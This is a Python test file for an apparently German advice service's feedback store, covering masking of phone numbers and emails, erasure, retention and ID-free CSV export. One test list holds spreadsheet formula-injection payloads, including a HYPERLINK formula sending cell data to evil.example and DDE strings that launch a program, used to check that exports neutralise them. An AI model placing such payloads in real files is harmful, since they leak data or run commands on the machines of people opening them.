"""Unanswered questions and rated answers: stored without IDs, exported for editors, erasable."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from jmd.content.unanswered import COLUMNS, export, safe_cell
from jmd.db.engine import make_engine, session_scope
from jmd.db.feedback import (
    HELPFUL,
    NOT_HELPFUL,
    UNANSWERED,
    delete_for_person,
    delete_older_than,
    for_editors,
    mask,
    record,
)
from jmd.db.models import Feedback, utcnow


def test_mask_removes_phone_numbers_and_email_addresses() -> None:
    text = "meine nummer ist 0176 1234567, mail a.b@web.de, ich bin 17 und brauche B1"
    masked = mask(text)
    assert "1234567" not in masked and "a.b@web.de" not in masked
    assert "17" in masked and "B1" in masked  # ages and levels stay: editors need them
    assert mask("x" * 5000) == "x" * 1000


def test_record_and_list_for_editors(database_url: str) -> None:
    engine = make_engine(database_url)
    with session_scope(engine) as session:
        record(session, UNANSWERED, language="prs", topic="recognition",
               text="مدرک خود را چطور قبول کنم؟", person_key="u1")
        record(session, HELPFUL, language="de", topic="study", text="ignored", person_key="u1")
        record(session, NOT_HELPFUL, language="ar", topic="work_permit",
               text="هل يمكنني العمل؟ رقمي 0176 1234567", person_key="u2")
    with session_scope(engine) as session:
        rows = list(for_editors(session))
        assert [r.kind for r in rows] == [UNANSWERED, NOT_HELPFUL]  # 👍 is no question
        assert "[Nummer]" in (rows[1].text or "")
        helpful = session.query(Feedback).filter(Feedback.kind == HELPFUL).one()
        assert helpful.text is None  # a 👍 needs no text


def test_unknown_kind_is_refused(database_url: str) -> None:
    with session_scope(make_engine(database_url)) as session, pytest.raises(ValueError):
        record(session, "angry", language="de")


def test_erasure_and_retention(database_url: str) -> None:
    engine = make_engine(database_url)
    with session_scope(engine) as session:
        record(session, UNANSWERED, language="de", text="a", person_key="u1")
        record(session, UNANSWERED, language="de", text="b", person_key="u2")
        old = record(session, UNANSWERED, language="de", text="c", person_key="u3")
        old.created_at = utcnow() - timedelta(days=100)
    with session_scope(engine) as session:
        assert delete_for_person(session, "u1") == 1
        assert delete_older_than(session, utcnow() - timedelta(days=90)) == 1
        assert [r.text for r in for_editors(session)] == ["b"]


def test_export_csv_has_no_ids(database_url: str) -> None:
    engine = make_engine(database_url)
    with session_scope(engine) as session:
        record(session, UNANSWERED, language="ar", topic="study", text="وين الجامعة؟",
               person_key="u-secret-key")
    out = io.StringIO()
    assert export(out, engine=engine) == 1
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == COLUMNS
    text, language, topic, date, kind = rows[1]
    assert (text, language, topic, kind) == ("وين الجامعة؟", "ar", "study", UNANSWERED)
    assert date == utcnow().date().isoformat()
    assert "u-secret-key" not in out.getvalue()


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Hilfe")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_export_neutralises_formulas(database_url: str) -> None:
    engine = make_engine(database_url)
    with session_scope(engine) as session:
        for text in FORMULAS:
            record(session, UNANSWERED, language="de", topic="study", text=text)
        record(session, UNANSWERED, language="de", text="wie viel kostet 1+1=2?")
    out = io.StringIO()
    assert export(out, engine=engine) == len(FORMULAS) + 1
    texts = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline=""))][1:]
    assert texts[:-1] == [f"'{mask(text)}" for text in FORMULAS]
    assert texts[-1] == "wie viel kostet 1+1=2?", "a formula sign inside the text is fine"
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)


def test_safe_cell() -> None:
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-") == "'-"
    assert safe_cell("Ausbildung?") == "Ausbildung?" and safe_cell("") == ""
    assert safe_cell("2026-11-28") == "2026-11-28"
